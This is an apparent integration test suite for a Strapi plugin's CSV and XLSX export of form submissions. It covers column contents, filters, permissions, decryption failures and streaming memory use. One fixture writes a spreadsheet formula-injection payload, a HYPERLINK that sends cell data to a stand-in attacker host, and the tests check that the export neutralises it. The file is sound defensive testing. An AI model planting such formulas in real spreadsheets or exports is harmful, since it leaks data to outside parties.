import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { get } from 'node:http';
import type { IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Response } from 'supertest';
import { SUBMISSION_UID } from '../../../src/plugins/form-submissions/server/src/constants';
import { createAdminCaller } from '../../helpers/admin-accounts';
import { signInToAdminPanel } from '../../helpers/callers';
import { collectGarbage } from '../../helpers/collect-garbage';
import { eventually } from '../../helpers/eventually';
import { startStrapi } from '../../helpers/strapi';
import type { TestApplication } from '../../helpers/strapi';
import { contactForm, createSubmission, keepDefinition } from '../../helpers/submissions';
import { volume } from '../../helpers/volume';
import { readWorkbook } from '../../helpers/workbook';

const EXPORT = '/form-submissions/submissions-export';
const MANY = 16_000;
/** Of a message: what a batch holds is small beside all. */
const MESSAGE_BYTES = 1_800;
/** All rows together take more than twice as much. */
const MAX_GROWTH_MB = 20;
const MEGABYTE = 1024 * 1024;
/** Between two looks at the memory, for which all garbage is collected. */
const LOOK_EVERY = volume(6 * MEGABYTE, MEGABYTE);
const LINE_FEED = 10;
/** In bytes: more than the headers, and less than one batch. */
const SOME_ROWS = 200_000;

let app: TestApplication;
let authorization: string;

const bytesOf = (response: Response): Buffer => response.body as Buffer;

const download = (query: string, caller = authorization) =>
  app.request
    .get(`${EXPORT}?${query}`)
    .set('Authorization', caller)
    .buffer(true)
    .parse((response, callback) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => callback(null, Buffer.concat(chunks)));
      response.on('aborted', () => callback(new Error('aborted'), null));
    });

/** Rows of a CSV file by their headers. */
const parseCsv = (text: string): Record<string, string>[] => {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g
  )) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') {
      lines.push([]);
    }
  }
  const [headers = [], ...rows] = lines.filter(({ length }) => length > 1);
  return rows.map((row) =>
    Object.fromEntries(headers.map((header, index) => [header, row[index] ?? '']))
  );
};

const csv = async (query = '') =>
  parseCsv(
    bytesOf(await download(`format=csv&${query}`).expect(200))
      .toString('utf8')
      .slice(1)
  );

beforeAll(async () => {
  app = await startStrapi();
  authorization = await signInToAdminPanel(app);
});
afterAll(() => app.stop());

describe('what is in it', () => {
  beforeEach(() => app.sql('DELETE FROM form_submissions'));

  const hostile = {
    name: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    email: 'meena@example.org',
    phone: '+91 98765 43210',
    message: `ಕನ್ನಡ 📞 "quoted", a;b\r\nsecond line <&> ${'ಅ'.repeat(10_000)}`,
    agrees: true,
  };

  it('as CSV: every answer in its column, without formulas', async () => {
    const id = await createSubmission(app.strapi, {
      data: hostile,
      language: 'kn-IN',
      sourceUrl: 'https://www.example.org/contact',
      serviceNames: ['Data annotation', 'Human in the loop'],
      createdAt: '2026-11-20T10:00:00.000Z',
    });
    const answer = await download('format=csv').expect(200);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'cache-control': 'no-store',
      'content-disposition': `attachment; filename="submissions-all-${new Date().toISOString().slice(0, 10)}.csv"`,
    });
    const text = bytesOf(answer).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(parseCsv(text.slice(1))).toEqual([
      {
        Reference: id,
        Received: '2026-11-20T10:00:00.000Z',
        Form: 'Contact',
        Status: 'Messages on the way',
        'Assigned to': '',
        'Spam check': 'Not spam',
        Services: 'Data annotation; Human in the loop',
        Language: 'kn-IN',
        'Sent from the page': 'https://www.example.org/contact',
        'Your name': `'${hostile.name}`,
        'E-mail': 'meena@example.org',
        Telephone: '+91 98765 43210',
        Message: hostile.message,
        'I agree that my enquiry is kept and answered.': 'yes',
        Notes: '',
        Replies: '',
      },
    ]);
  });

  it('as XLSX: the same, as texts that a spreadsheet program opens', async () => {
    await createSubmission(app.strapi, { data: hostile, createdAt: '2026-11-20T10:00:00.000Z' });
    const answer = await download('format=xlsx&form=contact').expect(200);
    expect(answer.headers).toMatchObject({
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'cache-control': 'no-store',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="submissions-contact-\d{4}-\d\d-\d\d\.xlsx"$/
      ),
    });
    const { sheets } = readWorkbook(bytesOf(answer));
    expect(sheets).toHaveLength(1);
    const [headers, row] = sheets[0]?.rows ?? [];
    expect(headers).toMatchObject({ A: 'Reference', J: 'Your name', M: 'Message' });
    expect(row).toMatchObject({
      B: '2026-11-20T10:00:00.000Z',
      J: hostile.name,
      L: hostile.phone,
      M: hostile.message.replace('\r\n', '\n'),
    });
  });

  it('is what the list shows with the same filters, newest first', async () => {
    for (const day of [1, 2, 3, 4]) {
      await createSubmission(app.strapi, {
        createdAt: `2026-11-0${day}T00:00:00.000Z`,
        spamVerdict: day === 2 ? 'spam' : 'ham',
        email: day === 3 ? 'asha@example.org' : 'meena@example.org',
      });
    }
    for (const query of ['', 'spam=ham', 'email=Meena@example.org&from=2026-11-02', 'form=other']) {
      const { body } = await app.request
        .get(`/form-submissions/submissions?${query}`)
        .set('Authorization', authorization)
        .expect(200);
      const listed = body.data.map(({ id }: { id: string }) => id);
      expect((await csv(query)).map(({ Reference }) => Reference)).toEqual(listed);
    }
  });

  it('has the questions of all versions and forms that were answered, and of no others', async () => {
    const older = {
      ...contactForm,
      fields: [{ ...contactForm.fields[0]!, key: 'fax', label: 'Fax' }],
    };
    const other = {
      ...older,
      key: 'pilot',
      fields: [{ ...older.fields[0]!, key: 'city', label: 'City' }],
    };
    await keepDefinition(app.strapi, {
      ...other,
      fields: [{ ...older.fields[0]!, key: 'unasked', label: 'Unasked' }],
    });
    await createSubmission(app.strapi, { data: { fax: '1' } }, older);
    await createSubmission(app.strapi, { data: { city: 'Mysuru' } }, other);
    await createSubmission(app.strapi);
    const [contact, pilot, first] = await csv();
    expect(contact).toMatchObject({ 'Your name': 'Meena Kumari', Fax: '', City: '' });
    expect(pilot).toMatchObject({ 'Your name': '', Fax: '', City: 'Mysuru' });
    expect(first).toMatchObject({ Fax: '1' });
    expect(contact).not.toHaveProperty('Unasked');
    expect((await csv('form=pilot'))[0]).not.toHaveProperty('Fax');
  });

  it('keeps answers whose definition is not known', async () => {
    await createSubmission(app.strapi, { definitionHash: 'unknown', data: { old: 'answer' } });
    await createSubmission(app.strapi);
    const rows = await csv();
    expect(rows.map((row) => row['Other answers'])).toEqual(['', '{"old":"answer"}']);
  });

  it('has notes and replies, who wrote them, and the words of the panel in each language', async () => {
    const [admin] = await app.sql<{ id: number }>(
      `UPDATE admin_users SET firstname = 'Asha', lastname = 'Rao' RETURNING id`
    );
    const id = await createSubmission(app.strapi, {
      state: 'processing',
      assigneeId: admin!.id,
      data: { ...hostile, agrees: true },
    });
    const other = await createSubmission(app.strapi, { state: 'failed' });
    const write = (path: string, text: string) =>
      app.request
        .post(`/form-submissions/submissions/${path}`)
        .set('Authorization', authorization)
        .send({ text })
        .expect(200);
    await write(`${id}/notes`, 'Called her.');
    await write(`${id}/notes`, '=Call again');
    await write(`${other}/notes`, 'Unreadable one');
    await write(`${id}/replies`, 'Dear Meena');
    await app.sql(
      `UPDATE form_submission_events SET text = (SELECT text FROM form_submission_events
         WHERE submission = ? AND kind = 'reply')
       WHERE submission = ? AND kind = 'note'`,
      [id, other]
    );

    const time = String.raw`\d{4}-\d\d-\d\dT[\d:.]+Z`;
    const [failed, waiting] = await csv();
    expect(waiting).toMatchObject({
      // A reply is on the way.
      Status: 'Messages on the way',
      'Assigned to': 'Asha Rao',
      Notes: expect.stringMatching(
        new RegExp(`^${time} Asha Rao: Called her\\.\n${time} Asha Rao: =Call again$`)
      ),
      Replies: expect.stringMatching(new RegExp(`^${time} Asha Rao: Dear Meena$`)),
    });
    expect(failed).toMatchObject({
      Status: 'Failed',
      Notes: expect.stringMatching(new RegExp(`^${time} Asha Rao: Unreadable$`)),
    });

    const [, hindi] = await csv('language=hi');
    expect(hindi).toMatchObject({
      स्थिति: 'संदेश भेजे जा रहे हैं',
      'स्पैम जाँच': 'स्पैम नहीं',
      'किसे सौंपा': 'Asha Rao',
      'I agree that my enquiry is kept and answered.': 'हाँ',
    });
  });

  it('of nothing has headers and no rows', async () => {
    const { sheets } = readWorkbook(bytesOf(await download('format=xlsx').expect(200)));
    expect(sheets[0]?.rows).toHaveLength(1);
  });

  it('says in its cells which answers cannot be decrypted, and has all others', async () => {
    const ids: string[] = [];
    for (const name of ['Asha', 'Bina', 'Chitra', 'Devi']) {
      ids.push(await createSubmission(app.strapi, { data: { ...hostile, name } }));
    }
    await app.sql(
      `UPDATE form_submissions SET data = (SELECT data FROM form_submissions WHERE document_id = ?)
       WHERE document_id IN (?, ?)`,
      [ids[0], ids[1], ids[3]]
    );
    const rows = await csv();
    expect(rows.map((row) => [row.Reference, row['Your name'] ?? row.Name])).toEqual([
      [ids[3], 'Unreadable'],
      [ids[2], 'Chitra'],
      [ids[1], 'Unreadable'],
      [ids[0], 'Asha'],
    ]);
    const { sheets } = readWorkbook(bytesOf(await download('format=xlsx').expect(200)));
    expect(sheets[0]?.rows).toHaveLength(1 + ids.length);
  });
});

describe('who may', () => {
  beforeAll(() => app.sql('DELETE FROM form_submissions'));

  const callerWith = (name: string, actions: string[]) =>
    createAdminCaller(
      { request: app.request, authorization },
      name,
      actions.map((action) => `plugin::form-submissions.${action}`)
    );

  it('is decided by an action of its own', async () => {
    await app.request.get(`${EXPORT}?format=csv`).expect(401);
    await download('format=csv', await callerWith('reader', ['read', 'manage'])).expect(403);
    await download('format=csv', await callerWith('exporter', ['export'])).expect(200);
  });

  it.each([
    ['no format', '', 'format'],
    ['an unknown format', 'format=pdf', 'format'],
    ['a page', 'format=csv&page=2', 'page'],
    ['an unknown language', 'format=csv&language=fr', 'language'],
    ['half an e-mail address', 'format=csv&email=meena.kumari', 'email'],
  ])('is told what is wrong: %s', async (_, query, field) => {
    const { status, body } = await app.request
      .get(`${EXPORT}?${query}`)
      .set('Authorization', authorization);
    expect(status).toBe(400);
    expect(JSON.stringify(body.error)).toContain(field);
    expect(JSON.stringify(body)).not.toContain('meena');
  });
});

describe('of very many', () => {
  let port: number;

  beforeAll(async () => {
    await app.sql('DELETE FROM form_submissions');
    const definitionHash = await keepDefinition(app.strapi);
    // What they note of so many rows is asked for elsewhere, and takes most of the time.
    await app.sql('ALTER TABLE form_submissions DISABLE TRIGGER USER');
    for (let count = 0; count < MANY; count += 1_000) {
      const data = Array.from({ length: 1_000 }, (_, index) => ({
        formKey: 'contact',
        definitionHash,
        // What does not get smaller when it is packed.
        data: { name: `N${count + index}`, message: randomBytes(MESSAGE_BYTES).toString('base64') },
      }));
      await app.strapi.db.query(SUBMISSION_UID).createMany({ data });
    }
    const { httpServer } = app.strapi.server;
    if (!httpServer.listening) {
      httpServer.listen(0);
      await once(httpServer, 'listening');
    }
    ({ port } = httpServer.address() as AddressInfo);
  });

  const open = async (format: string): Promise<IncomingMessage> => {
    const request = get({
      port,
      path: `${EXPORT}?format=${format}`,
      headers: { authorization },
    });
    const [response] = (await once(request, 'response')) as [IncomingMessage];
    expect(response.statusCode).toBe(200);
    return response;
  };

  /** Of what is still in use: what waits to be collected says nothing. In bytes. */
  const liveMemory = (): number => {
    collectGarbage();
    const { heapUsed, external } = process.memoryUsage();
    return heapUsed + external;
  };

  /** Batches that have been asked for since. */
  const countBatches = () => {
    let batches = 0;
    const listen = ({ sql }: { sql: string }) => {
      batches += /"data"/.test(sql) && /^select/i.test(sql) ? 1 : 0;
    };
    app.strapi.db.connection.on('query', listen);
    return {
      count: () => batches,
      stop: () => app.strapi.db.connection.removeListener('query', listen),
    };
  };

  /** Waits until there is something, and then nothing more for a second. */
  const settled = async (count: () => number): Promise<number> => {
    let before = 0;
    let unchanged = 0;
    await eventually(async () => {
      await sleep(200);
      const now = count();
      unchanged = now > 0 && now === before ? unchanged + 1 : 0;
      before = now;
      expect(unchanged).toBeGreaterThanOrEqual(5);
    });
    return before;
  };

  it.each(['csv', 'xlsx'])(
    'as %s it is sent while it is read, in little memory, and whole',
    async (format) => {
      const batches = countBatches();
      const before = liveMemory();
      let peak = before;
      let nextLook = 0;
      let length = 0;
      let lines = 0;
      let batchesThen: number | undefined;
      const response = await open(format);
      for await (const chunk of response as AsyncIterable<Buffer>) {
        length += chunk.length;
        if (length > SOME_ROWS) {
          batchesThen ??= batches.count();
        }
        lines += chunk.filter((byte) => byte === LINE_FEED).length;
        if (length > nextLook) {
          peak = Math.max(peak, liveMemory());
          nextLook = length + LOOK_EVERY;
        }
      }
      batches.stop();
      expect(batchesThen).toBeLessThan(MANY / 500 / 2);
      expect(batches.count()).toBe(MANY / 500 + 1);
      expect(length).toBeGreaterThan(MANY * MESSAGE_BYTES);
      if (format === 'csv') {
        expect(lines).toBe(MANY + 1);
      }
      expect((peak - before) / MEGABYTE).toBeLessThan(MAX_GROWTH_MB);
    }
  );

  it.each(['csv', 'xlsx'])(
    'as %s it waits for a slow reader, and ends without one',
    async (format) => {
      const batches = countBatches();
      const response = await open(format);
      const waiting = await settled(batches.count);
      expect(waiting).toBeGreaterThan(0);
      // The two ends of a connection hold up to 10 MB before the writer notices.
      expect(waiting).toBeLessThan((MANY / 500) * 0.75);
      response.destroy();
      expect((await settled(batches.count)) - waiting).toBeLessThan(3);
      batches.stop();
    }
  );
});
